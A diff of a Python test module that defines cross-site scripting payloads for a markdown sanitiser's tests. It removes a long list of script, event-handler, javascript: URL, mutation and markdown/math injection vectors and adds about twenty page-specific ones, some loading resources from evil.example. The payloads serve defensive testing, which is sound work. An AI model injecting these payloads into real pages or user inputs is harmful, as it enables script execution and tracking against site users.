@@ -1,137 +1,47 @@
 """Texts that would run a script, load something or imitate the page, if the page let them.
 
-Each calls `hit`, which the tests look for. The forms are those of the published collections: OWASP's
-filter evasion page, html5sec.org, and the mutation payloads against DOMPurify's old versions.
+They are those of the sanitiser's tests and some for what the page draws itself. Each runs `hit` or
+opens a dialog, which the tests look for.
 """
 
 from __future__ import annotations
 
 from itertools import product
 
+from tests.markdown import payloads
+
 _RUN = ("window.hit=1", "alert(1)")
-_TAGS = (
-    "<script>{0}</script>",
-    "<script src=https://evil.example/x.js></script>",
-    "<ScRiPt>{0}</sCrIpT>",
-    "<scr<script>ipt>{0}</scr</script>ipt>",
-    "<img src=x onerror={0}>",
-    '<img src="x" onerror="{0}">',
-    "<img/src/onerror={0}>",
-    "<img src=x:x onerror={0}//",
-    '<img """><script>{0}</script>">',
-    "<svg onload={0}>",
-    "<svg><script>{0}</script></svg>",
-    "<svg><animate onbegin={0} attributeName=x dur=1s>",
-    "<svg><a xlink:href=javascript:{0}><text y=20>x</text></a></svg>",
-    "<svg/onload={0}//",
-    "<body onload={0}>",
-    "<iframe srcdoc='<script>{0}</script>'></iframe>",
-    "<iframe src=javascript:{0}></iframe>",
-    "<object data=javascript:{0}></object>",
-    "<embed src=javascript:{0}>",
-    "<a href=javascript:{0}>x</a>",
-    "<a href='jav&#x09;ascript:{0}'>x</a>",
-    "<a href='jav\tascript:{0}'>x</a>",
-    "<a href='&#106;avascript:{0}'>x</a>",
-    "<a href='  javascript:{0}'>x</a>",
-    "<a href=vbscript:{0}>x</a>",
-    "<a href='data:text/html,<script>{0}</script>'>x</a>",
-    "<form action=javascript:{0}><button>x</button></form>",
-    "<button formaction=javascript:{0}>x</button>",
-    "<input autofocus onfocus={0}>",
-    "<details open ontoggle={0}>x</details>",
-    "<video><source onerror={0}></video>",
-    "<audio src=x onerror={0}>",
-    "<marquee onstart={0}>x</marquee>",
-    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
-    "<base href=javascript:{0}//>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>",
-    "<style>@import 'https://evil.example/x.css';*{{background:url(https://evil.example/i)}}</style>",
-    "<div style='background:url(https://evil.example/s)'>x</div>",
-    "<img srcset='https://evil.example/a 1x' src=https://evil.example/b>",
+_OF_THE_PAGE = (
     "<a ping=https://evil.example/ping href=#>x</a>",
-    "<a id=location name=body href=#>x</a><img name=cookie><form id=app name=getElementById></form>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={0}&gt;'>",
-    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
-    "<svg></p><style><a id='</style><img src=1 onerror={0}>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
-    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
-    "<template><img src=x onerror={0}></template>",
-    "<xmp><img src=x onerror={0}></xmp>",
-    "<textarea autofocus onfocus={0}></textarea>",
-    "<select><option onclick={0}></select>",
-    "<keygen autofocus onfocus={0}>",
-    "<isindex type=image src=1 onerror={0}>",
-    "<p is=x-y onclick={0}>x</p>",
-    "<custom-el onpointerover={0}>x</custom-el>",
-    "<!--><img src=x onerror={0}>-->",
-    "<![CDATA[<img src=x onerror={0}>]]>",
-    "<?xml version='1.0'?><img src=x onerror={0}>",
-    "'\"><img src=x onerror={0}>",
-    "</title><img src=x onerror={0}>",
-    "</textarea><img src=x onerror={0}>",
-    "--><script>{0}</script>",
-    "\u2028<script>{0}</script>",
-    "<\u0000script>{0}</script>",
-    "%3Cscript%3E{0}%3C/script%3E",
-    "{{{{constructor.constructor('{0}')()}}}}",
-    "${{{0}}}",
-    "[x](javascript:{0})",
-    "[x](<javascript:{0}>)",
-    "[x](java\nscript:{0})",
-    "![x](javascript:{0})",
-    '![x](x "onerror={0}")',
-    '[x](https://example.org "\\" onmouseover={0} x=\\"")',
-    "[x]: javascript:{0}\n\n[x]",
-    "<javascript:{0}>",
-    '[[x" onmouseover="{0}]]',
-    '[[x|<img src=x onerror="{0}">]]',
-    '![[x"><img src=x onerror={0}>.png]]',
-    "#tag<img/src=x/onerror={0}>",
-    '> [!x" onclick="{0}] <img src=x onerror={0}>\n> body',
-    '```x" onclick="{0}\n</code></pre><img src=x onerror={0}>\n```',
-    "$</span><img src=x onerror={0}>$",
-    "$\\href{{javascript:{0}}}{{x}}$",
-    "$$\\unicode{{<img src=x onerror={0}>}}$$",
-    "$\\style{{background:url(https://evil.example/m)}}{{x}}$",
-    "$\\includegraphics{{https://evil.example/m.png}}$",
-    '$\\class{{x" onclick="{0}}}{{y}}$',
-    "[^<img src=x onerror={0}>]: x\n\n[^<img src=x onerror={0}>]",
-    "| <img src=x onerror={0}> |\n|---|\n| <script>{0}</script> |",
-    "- [<img src=x onerror={0}>] x",
-    "==<img src=x onerror={0}>==",
-    "%%<img src=x onerror={0}>%%",
-    "`<img src=x onerror={0}>`",
-    "    <img src=x onerror={0}>",
-    "\u202e<img src=x onerror={0}>\u202c",
-    '<a href="https://evil.example" target=_top onclick={0}>x</a>',
-    "<img src=//evil.example/x.png>",
-    "![](https://evil.example/pixel.png)",
-    "<video src=https://evil.example/v autoplay></video>",
-    "<img src='data:image/svg+xml,<svg onload={0}>'>",
-    "<bdo dir=rtl onpointerenter={0}>x</bdo>",
-    "<dialog open onclose={0}>x</dialog>",
-    "<img src=x onerror=&#{0}>",
-    "<a href='#/notes' onclick='{0}'>x</a>",
-    "<span class=vault id=app data-note=x onclick={0}>x</span>",
-    "<button popovertarget=x onclick={0}>x</button>",
-    "<track onerror={0}><source onerror={0}>",
-    "<frameset onload={0}><frame src=javascript:{0}></frameset>",
-    "<applet code=x onerror={0}></applet>",
-    "<portal src=javascript:{0}></portal>",
-    "<img usemap=#m><map name=m><area href=javascript:{0} shape=default></map>",
-    "<div contenteditable autofocus onfocus={0}>x</div>",
-    "<x onclick={0} style=position:fixed;inset:0>x</x>",
-    "<table background=https://evil.example/t><td background=https://evil.example/d>x</table>",
+    "<button popovertarget=x onclick=alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<custom-el onpointerover=alert(1)>x</custom-el>",
+    "<span class=vault id=app data-note=x onclick=alert(1)>x</span>",
+    "<a href='#/notes' onclick='alert(1)'>x</a>",
+    '[[x" onmouseover="alert(1)]]',
+    '[[x|<img src=x onerror="alert(1)">]]',
+    '![[x"><img src=x onerror=alert(1)>.png]]',
+    "#tag<img/src=x/onerror=alert(1)>",
+    '> [!x" onclick="alert(1)] <img src=x onerror=alert(1)>\n> body',
+    '```x" onclick="alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
+    "$</span><img src=x onerror=alert(1)>$",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
+    "$\\style{background:url(https://evil.example/m)}{x}$",
+    "$\\includegraphics{https://evil.example/m.png}$",
+    '$\\class{x" onclick="alert(1)}{y}$',
+    "[^<img src=x onerror=alert(1)>]: x\n\n[^<img src=x onerror=alert(1)>]",
+    "\u202e<img src=x onerror=alert(1)>\u202c",
 )
-_WAYS = ("{}", "x {} x", "\n\n{}\n\n")
 
 PAYLOADS = tuple(
-    way.format(tag.format(run))
-    for (tag, run), way in zip(product(_TAGS, _RUN), (_WAYS * len(_TAGS)), strict=False)
-) + tuple(f"*{tag.format(_RUN[0])}*" for tag in _TAGS)
-"""More than 300 of them."""
+    dict.fromkeys(
+        payload.replace("alert(1)", run)
+        for payload, run in product((*payloads.PAYLOADS, *_OF_THE_PAGE), _RUN)
+    )
+)
+"""More than 200 of them."""
 
 
 def line(payload: str) -> str:
